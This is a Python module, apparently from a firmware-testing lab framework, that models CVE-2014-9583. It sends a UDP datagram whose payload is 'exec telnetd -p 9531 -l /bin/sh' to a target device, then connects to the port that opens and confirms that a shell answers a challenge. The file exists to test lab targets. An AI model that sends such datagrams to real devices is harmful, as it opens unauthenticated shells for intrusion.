"""One datagram that a service runs as a command."""

from contextlib import closing

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means import network
from firmward.lab.means.line import Line
from firmward.lab.station import Station
from firmward.lab.target import Powered, Target, Witness

PORT = 9530
OPENED = 9531
COMMAND = f"exec telnetd -p {OPENED} -l /bin/sh\n".encode()


def run(target: Target) -> Result:
    with closing(Station()) as station:
        return network.attacked(target, ATTACK, lambda powered: _strike(powered, station), station)


def _strike(powered: Powered, station: Station) -> bool:
    station.tell(PORT, COMMAND)
    challenge = powered.target.challenge
    with Line(powered.address(OPENED)) as line:
        line.send(f"echo {challenge.shell}\n".encode())
        if not line.until(lambda said: challenge.is_answered(said.decode("utf-8", "replace"))):
            return False
    powered.target.note(Witness.NETWORK, f"the datagram opened port {OPENED}, and a shell there answered the challenge")
    return True


ATTACK = Attack(
    id="udp-command",
    title="A datagram that is run as a command",
    does=f"sends a datagram to UDP port {PORT}, which tells the device to open a shell",
    position=Position.NETWORK,
    link=RUNNING,
    case="CVE-2014-9583: infosvr of ASUS' routers runs commands that come in a datagram to port 9999",
    foretold=("backdoor-listener",),
    run=run,
    within=120.0,
    ports=(OPENED,),
)
